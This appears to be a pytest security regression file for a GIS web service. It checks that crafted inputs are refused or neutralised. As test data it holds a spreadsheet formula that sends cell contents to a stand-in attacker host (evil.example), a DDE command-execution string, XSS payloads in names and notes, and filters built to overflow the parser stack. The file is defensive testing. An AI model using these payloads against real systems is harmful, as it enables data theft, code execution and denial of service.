"""Issue #18, as an attacker would try it: input built to crash a parser, text built to break an export, cells
built to run in a spreadsheet, ids built to break the id sequence. Each is refused with a 4xx and a message that
names the limit or the field, and changes nothing; or, for exports, is written so that it cannot run.

One test per finding: 1 (a filter that killed the server), 6 (exports that run), 7 (text that cannot be encoded or
exported), 8 (ids beyond what the API accepts), 9 (inputs that still answered 500).
"""

from __future__ import annotations

import csv
import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from xml.etree import ElementTree

import gpxpy
import httpx
import pytest
import sqlalchemy as sa
from fastapi.testclient import TestClient

from gis_service.cli.analyse import _write_table
from gis_service.errors import GisServiceError, ImportRejected
from gis_service.io.csv_cells import FORMULA_STARTS
from gis_service.io.files import write_export
from gis_service.io.layers_io import import_into, read_layer
from gis_service.io.placenames_export import place_name_records, write_place_names
from gis_service.layers import LAYERS
from gis_service.limits import MAX_FEATURE_ID, MAX_IMPORTED_ID
from gis_service.settings import Settings

from .harness.devserver import RunningServer, service_process
from .helpers import NEAR_SEAT, REPO, bearer, fingerprint, station

ELDER_CARE = "/collections/elder_care/items"
KML = "{http://www.opengis.net/kml/2.2}"
DEPTH_WORDS = "levels deep (brackets, NOT, signs and arithmetic count); at most 32 are accepted"


# -- finding 1: one GET killed the server ------------------------------------------------------------------------

@pytest.fixture(scope="module")
def server(engine: sa.Engine, database_url: str) -> Iterator[RunningServer]:
    """The service in a uvicorn subprocess: if a filter crashed the parser, this process would die, not pytest."""
    with service_process(database_url, GIS_WARM_UP="false") as running:
        yield running


#: Filters that made the cql2 parser overflow its stack and kill the process (each was reproduced in a
#: subprocess: exit by SIGSEGV), both in the main thread and in the worker threads that answer requests.
CRASHING_FILTERS = {
    "2,000 nested brackets": "(" * 2000 + "beds = 1" + ")" * 2000,
    "5,000 unary minus signs": "beds = " + "-" * 5000 + "1",
    "4,500 NOTs": "NOT " * 4500 + "beds = 1",
}


@pytest.mark.parametrize("case", list(CRASHING_FILTERS))
def test_a_filter_that_crashed_the_parser_is_refused_and_the_server_lives(case: str, server: RunningServer) -> None:
    deep = httpx.get(f"{server.url}{ELDER_CARE}", params={"filter": CRASHING_FILTERS[case]}, timeout=30)
    assert deep.status_code == 400, deep.text[:300]
    assert deep.json()["code"] == "LimitExceeded"
    assert "at most" in deep.json()["description"]
    assert server.process.poll() is None, "the server process died"
    after = httpx.get(f"{server.url}{ELDER_CARE}", params={"filter": "beds >= 100", "limit": 1}, timeout=30)
    assert after.status_code == 200 and after.json()["features"][0]["properties"]["beds"] >= 100


# -- finding 9: inputs that still answered 500 -------------------------------------------------------------------

@dataclass
class Api:
    client: TestClient
    conn: sa.Connection
    tokens: dict[str, str]

    def create(self, feature: dict | bytes, *, layer: str = "elder_care", role: str = "planner") -> httpx.Response:
        content = feature if isinstance(feature, bytes) else json.dumps(feature).encode()
        return self.client.post(f"/collections/{layer}/items", content=content, headers=bearer(self.tokens[role]))

    def items(self, filter_text: str, lang: str = "cql2-text") -> httpx.Response:
        return self.client.get(ELDER_CARE, params={"filter": filter_text, "filter-lang": lang})


def _road(former_names: object) -> dict:
    return {"type": "Feature", "geometry": {"type": "LineString", "coordinates": [NEAR_SEAT, [108.995, 28.45]]},
            "properties": {"name": "测试路", "road_class": "village", "former_names": former_names}}


def _not_json(depth: int) -> str:
    inner = json.dumps({"op": "=", "args": [{"property": "beds"}, 1]})
    return '{"op": "not", "args": [' * depth + inner + "]}" * depth


#: name: (request, status, words in the description)
STILL_500: dict[str, tuple[Callable[[Api], httpx.Response], int, str]] = {
    "33 NOTs in a row": (lambda api: api.items("NOT " * 33 + "beds = 1"), 400, "filter nests 33 " + DEPTH_WORDS),
    "arithmetic 3,000 terms long": (lambda api: api.items("beds = " + " + ".join(["1"] * 3000)), 400,
                                    "filter nests 2,999 " + DEPTH_WORDS),
    "a filter of 20,001 characters": (lambda api: api.items("name = '" + "x" * 19_992 + "'"), 400,
                                      "filter is 20,001 characters long; at most 20,000 are accepted"),
    "5,001 values in IN": (lambda api: api.items("beds IN (" + ",".join(["1"] * 5001) + ")"), 400,
                           "filter has 5,003 terms (names, values and operators); at most 5,000 are accepted"),
    "CQL2-JSON nested 5,000 arrays deep": (lambda api: api.items("[" * 5000 + "]" * 5000, "cql2-json"), 400,
                                           "filter nests objects and arrays 5,000 levels deep; at most 64 levels"),
    "CQL2-JSON with 40 nested NOTs": (lambda api: api.items(_not_json(40), "cql2-json"), 400,
                                      "filter nests objects and arrays 83 levels deep; at most 64 levels"),
    "a lone surrogate in CQL2-JSON": (
        lambda api: api.items('{"op": "=", "args": [{"property": "name"}, "\\ud800"]}', "cql2-json"), 400,
        "filter holds text that is not valid Unicode (a lone surrogate, \\ud800-\\udfff, at args[1])"),
    "NUL in a CQL2-JSON text": (
        lambda api: api.items('{"op": "like", "args": [{"property": "name"}, "%\\u0000%"]}', "cql2-json"), 400,
        "filter holds the character NUL (\\u0000) in a text value"),
    "a body nested 100,000 arrays deep": (
        lambda api: api.create(b'{"type": "Feature", "properties": {"x": ' + b"[" * 100_000 + b"]" * 100_000 + b"}}"),
        400, "the body nests objects and arrays 100,002 levels deep; at most 64 levels are accepted"),
    "an integer of 5,000 digits": (
        lambda api: api.create(json.dumps(station()).replace('"beds": 20', '"beds": ' + "9" * 5000).encode()),
        400, "the body holds a number written with 5,000 characters; at most 100 are accepted"),
    "a lone surrogate in a name": (
        lambda api: api.create(json.dumps(station()).replace('"name": "', '"name": "\\ud800').encode()), 400,
        "the body holds text that is not valid Unicode (a lone surrogate, \\ud800-\\udfff, at properties.name)"),
    "[[[… in former_names": (lambda api: api.create(_road("[" * 5000), layer="roads", role="placename"), 422,
                             "former_names: '[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[... is not a "
                             "list of names (separated by ';') (the list nests objects and arrays 5,000 levels "
                             "deep; at most 1 level is accepted)"),
    "a long Unicode file name under /maps/static/": (lambda api: api.client.get("/maps/static/" + "é" * 3000), 404,
                                                     "no map asset 'éééé"),
}


@pytest.mark.parametrize("case", list(STILL_500))
def test_an_input_that_answered_500_is_refused_plainly_and_writes_nothing(
        case: str, client: TestClient, conn: sa.Connection, tokens: dict[str, str]) -> None:
    send, status, words = STILL_500[case]
    before = fingerprint(conn)
    response = send(Api(client, conn, tokens))
    assert response.status_code == status, response.text[:500]
    assert set(response.json()) == {"code", "description", "request_id"}
    assert words in response.json()["description"]
    assert fingerprint(conn) == before


def test_filters_within_the_limits_are_answered(client: TestClient) -> None:
    """The limits leave room for real use: 32 levels, a 1,000-value IN list, a polygon of 500 vertices."""
    nested = "(" * 31 + "beds >= 100" + ")" * 31
    ring = ", ".join(f"{108.9 + i * 0.0004} 28.3" for i in range(498)) + ", 109.1 28.9, 108.9 28.3"
    for text in (nested, "NOT " * 32 + "beds >= 100", "id IN (" + ",".join(map(str, range(1, 1001))) + ")",
                 f"S_INTERSECTS(geometry, POLYGON(({ring})))"):
        response = client.get(ELDER_CARE, params={"filter": text, "limit": 1})
        assert response.status_code == 200, (text[:60], response.text[:300])
        assert response.json()["numberMatched"] >= 1


# -- finding 7: text that cannot be encoded or exported ----------------------------------------------------------

#: (layer, field, value, words): refused at write and at import, with the row and the field named.
UNFIT_TEXT = {
    "U+FFFF in a name": ("elder_care", "name", "界线\uffff", "name: contains the Unicode noncharacter U+FFFF"),
    "U+FFFE in a name": ("elder_care", "name", "\ufffe养老", "name: contains the Unicode noncharacter U+FFFE"),
    "U+FDD0 in a name": ("elder_care", "name", "养\ufdd0老", "name: contains the Unicode noncharacter U+FDD0"),
    "U+10FFFF in data_source": ("elder_care", "data_source", "x\U0010ffff",
                                "data_source: contains the Unicode noncharacter U+10FFFF"),
    "a C1 control in a name": ("elder_care", "name", "养老\x85站", "name: contains control characters (U+0085"),
    "a line break in a name": ("elder_care", "name", "养老\n服务站",
                               "name: contains control characters (U+000A at character 3; tabs and line breaks "
                               "only in multi-line fields)"),
    "a bell in history": ("place_names", "history", "1958年\x07设", "history: contains control characters (U+0007"),
}


@pytest.mark.parametrize("case", list(UNFIT_TEXT))
def test_text_that_cannot_be_encoded_or_exported_is_refused_at_write_and_import(
        case: str, client: TestClient, conn: sa.Connection, tokens: dict[str, str], settings: Settings,
        tmp_path: Path) -> None:
    layer, field, value, words = UNFIT_TEXT[case]
    feature = station() if layer == "elder_care" else {
        "type": "Feature", "geometry": {"type": "Point", "coordinates": NEAR_SEAT},
        "properties": {"name": "测试山", "category": "natural", "division_code": "500241001001"}}
    feature["properties"][field] = value
    role = "planner" if layer == "elder_care" else "placename"
    before = fingerprint(conn)

    written = client.post(f"/collections/{layer}/items", json=feature, headers=bearer(tokens[role]))
    assert written.status_code == 422, written.text
    assert f"row 1, {words}" in written.json()["description"]

    path = tmp_path / "rows.geojson"
    path.write_text(json.dumps({"type": "FeatureCollection", "features": [station(), feature]}
                               if layer == "elder_care" else {"type": "FeatureCollection", "features": [feature]}),
                    encoding="utf-8")
    with pytest.raises(ImportRejected) as refused:
        import_into(conn, settings, layer, path)
    assert f"row {2 if layer == 'elder_care' else 1}, {words}" in str(refused.value)
    assert fingerprint(conn) == before


def test_multi_line_fields_keep_their_tabs_and_line_breaks(client: TestClient, tokens: dict[str, str]) -> None:
    history = "1958年建乡。\n1992年撤乡建镇；\t2021年更名。"
    feature = {"type": "Feature", "geometry": {"type": "Point", "coordinates": NEAR_SEAT},
               "properties": {"name": "测试山", "category": "natural", "division_code": "500241001001",
                              "history": history}}
    created = client.post("/collections/place_names/items", json=feature, headers=bearer(tokens["placename"]))
    assert created.status_code == 201, created.text
    assert client.get(created.headers["Location"]).json()["properties"]["history"] == history


@pytest.mark.parametrize("fmt", ["kml", "gpx"])
def test_text_already_stored_with_a_noncharacter_does_not_break_exports(
        fmt: str, client: TestClient, conn: sa.Connection) -> None:
    """Rows written before the check may hold U+FFFF: the line's KML and GPX are still written, with U+FFFD."""
    code = conn.execute(sa.text("UPDATE boundary_lines SET name = '秀山\uffff酉阳界线' WHERE id = "
                                "(SELECT min(id) FROM boundary_lines) RETURNING code")).scalar_one()
    export = client.get("/exports/boundaries", params={"line": code, "format": fmt})
    assert export.status_code == 200, export.text[:300]
    names = _texts(fmt, export.content)
    assert any("秀山\ufffd酉阳界线" in text for text in names)
    assert not any("\uffff" in text for text in names)


def _texts(fmt: str, content: bytes) -> list[str]:
    """Every text a viewer shows of a KML (names, descriptions, data) or GPX (names, descriptions)."""
    if fmt == "gpx":
        gpx = gpxpy.parse(content.decode("utf-8"))
        return [text for item in [*gpx.tracks, *gpx.waypoints] for text in (item.name, item.description) if text]
    return [element.text for element in ElementTree.fromstring(content).iter() if element.text]


# -- finding 6: exports that run ---------------------------------------------------------------------------------

def _place_name(name: str, **extra: str) -> dict:
    return {"type": "Feature", "geometry": {"type": "Point", "coordinates": NEAR_SEAT},
            "properties": {"name": name, "category": "natural", "division_code": "500241001001", **extra}}


#: Names a spreadsheet would run, and names that look like our own defence: each must come back exactly.
FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?d="&A1,"点我")', "+SUM(1,2)", "-2+3", "@SUM(A1:A9)",
                 "'=已加引号", "''两个引号", "'普通"]
FORMULA_TEXT = {"meaning": "=1+1\n第二行\t制表", "origin": "-cmd|' /C calc'!A0", "data_source": "@资料"}


def test_exported_csv_cells_cannot_run_and_come_back_exactly(
        client: TestClient, conn: sa.Connection, tokens: dict[str, str], settings: Settings, tmp_path: Path) -> None:
    ids = []
    for name in FORMULA_NAMES:
        created = client.post("/collections/place_names/items", json=_place_name(name, **FORMULA_TEXT),
                              headers=bearer(tokens["placename"]))
        assert created.status_code == 201, created.text
        ids.append(created.json()["id"])
    layer = LAYERS["place_names"]
    stored = read_layer(conn, layer).set_index("id").loc[ids]

    layer_csv = write_export(stored.reset_index(), tmp_path / "place_names.csv", fmt="csv", layer_name="place_names")
    gazetteer_csv = write_place_names(place_name_records(conn), tmp_path / "gazetteer.csv", fmt="csv")
    analysis_csv = tmp_path / "coverage.csv"
    _write_table(analysis_csv, [{"name": name, "households": -3, "share": -0.25} for name in FORMULA_NAMES])
    for path in (layer_csv, gazetteer_csv, analysis_csv):
        cells = [cell for row in csv.reader(path.open(encoding="utf-8-sig")) for cell in row]
        assert not [c for c in cells if c.startswith(FORMULA_STARTS) and c not in ("-3", "-0.25")], path.name
    rows = list(csv.DictReader(layer_csv.open(encoding="utf-8-sig")))
    assert [row["name"] for row in rows] == ["'" + FORMULA_NAMES[0], "'+SUM(1,2)", "'-2+3", "'@SUM(A1:A9)",
                                             "''=已加引号", "'''两个引号", "'普通"]
    assert rows[0]["meaning"] == "'=1+1\n第二行\t制表"
    assert [row["households"] for row in csv.DictReader(analysis_csv.open(encoding="utf-8-sig"))] == ["-3"] * 7

    conn.execute(sa.text("DELETE FROM place_names WHERE id = ANY(:ids)"), {"ids": ids})
    import_into(conn, settings, "place_names", layer_csv)
    restored = read_layer(conn, layer).set_index("id").loc[ids]
    for field in ("name", "pinyin", "meaning", "origin", "data_source"):
        assert restored[field].tolist() == stored[field].tolist(), field


def test_csv_is_written_only_through_the_neutralising_writer() -> None:
    """Every CSV the service writes goes through gis_service/io/csv_cells.py (a new writer elsewhere would not
    neutralise formulas)."""
    writers = [f"{path.relative_to(REPO)}:{n}" for path in (REPO / "gis_service").rglob("*.py")
               if path.name != "csv_cells.py"
               for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
               if any(call in line for call in ("csv.writer(", "DictWriter(", ".to_csv("))]
    assert writers == []


MARKUP = "<img src=x onerror=alert(1)>"


@pytest.mark.parametrize("fmt", ["kml", "gpx"])
def test_markup_in_names_and_inspection_notes_is_escaped_in_kml_and_gpx(
        fmt: str, client: TestClient, conn: sa.Connection, tokens: dict[str, str]) -> None:
    line_id, code = conn.execute(sa.text("SELECT id, code FROM boundary_lines ORDER BY id LIMIT 1")).one()
    marker_id = conn.execute(sa.text("SELECT min(id) FROM boundary_markers WHERE line_code = :c"),
                             {"c": code}).scalar_one()
    etag = client.get(f"/collections/boundary_lines/items/{line_id}").headers["ETag"]
    renamed = client.patch(f"/collections/boundary_lines/items/{line_id}",
                           json={"type": "Feature", "properties": {"name": f"界线{MARKUP}"}},
                           headers=bearer(tokens["inspector"], **{"If-Match": etag}))
    assert renamed.status_code == 200, renamed.text
    noted = client.post(f"/collections/boundary_markers/items/{marker_id}/inspections",
                        json={"condition": "damaged", "notes": f"桩体倾斜<script>alert(1)</script>{MARKUP}"},
                        headers=bearer(tokens["inspector"]))
    assert noted.status_code == 201, noted.text

    export = client.get("/exports/boundaries", params={"line": code, "format": fmt})
    assert export.status_code == 200, export.text[:300]
    texts = _texts(fmt, export.content)  # what a viewer gets after reading the XML: shown as HTML by many
    assert any("界线&lt;img src=x onerror=alert(1)&gt;" in text for text in texts)
    assert any("桩体倾斜&lt;script&gt;alert(1)&lt;/script&gt;" in text for text in texts)
    assert not any("<img" in text or "<script" in text for text in texts)


# -- finding 8: ids are the service's ----------------------------------------------------------------------------

def _elder_care_csv(path: Path, ident: str) -> Path:
    path.write_text("id,name,kind,beds,nursing_beds,operator,division_code,lon,lat\n"
                    f"{ident},大号,community_station,20,8,public_private,500241001001,108.993,28.449\n",
                    encoding="utf-8")
    return path


@pytest.mark.parametrize(("ident", "words"), [
    ("9007199254740993", "row 1, id: 9007199254740993 is above 9,007,199,254,740,991 (2^53 - 1), the largest id a "
                         "file may give: leave the id out and the service numbers the row"),
    (str(MAX_FEATURE_ID + 5), f"row 1, id: {MAX_FEATURE_ID + 5} is above 9,007,199,254,740,991"),
    ("9" * 40, "row 1, id: '" + "9" * 40 + "' is not a whole number"),
])
def test_an_imported_id_beyond_what_the_api_accepts_is_refused_exactly(
        ident: str, words: str, conn: sa.Connection, settings: Settings, tmp_path: Path) -> None:
    before = fingerprint(conn)
    with pytest.raises(GisServiceError) as refused:
        import_into(conn, settings, "elder_care", _elder_care_csv(tmp_path / "ids.csv", ident))
    assert words in str(refused.value)
    assert fingerprint(conn) == before


@pytest.fixture()
def elder_care_ids(engine: sa.Engine) -> Iterator[None]:
    """Puts the id sequence of elder_care back afterwards: setval is not undone by the test's rollback."""
    with engine.connect() as admin:
        last = admin.execute(sa.text("SELECT last_value FROM elder_care_id_seq")).scalar_one()
    yield
    with engine.connect() as admin:
        admin.execute(sa.text("SELECT setval('elder_care_id_seq', :last)"), {"last": last})
        admin.commit()


@pytest.mark.usefixtures("elder_care_ids")
def test_after_importing_the_largest_id_new_features_can_still_be_changed(
        client: TestClient, conn: sa.Connection, settings: Settings, tokens: dict[str, str], tmp_path: Path) -> None:
    import_into(conn, settings, "elder_care", _elder_care_csv(tmp_path / "ids.csv", str(MAX_IMPORTED_ID)))
    assert client.get(f"{ELDER_CARE}/{MAX_IMPORTED_ID}").json()["properties"]["name"] == "大号"
    created = client.post(ELDER_CARE, json=station("导入之后"), headers=bearer(tokens["planner"]))
    assert created.status_code == 201 and created.json()["id"] == MAX_IMPORTED_ID + 1
    patched = client.patch(created.headers["Location"], json={"type": "Feature", "properties": {"beds": 30}},
                           headers=bearer(tokens["planner"], **{"If-Match": created.headers["ETag"]}))
    assert patched.status_code == 200 and patched.json()["properties"]["beds"] == 30
    deleted = client.delete(created.headers["Location"],
                            headers=bearer(tokens["planner"], **{"If-Match": patched.headers["ETag"]}))
    assert deleted.status_code == 204
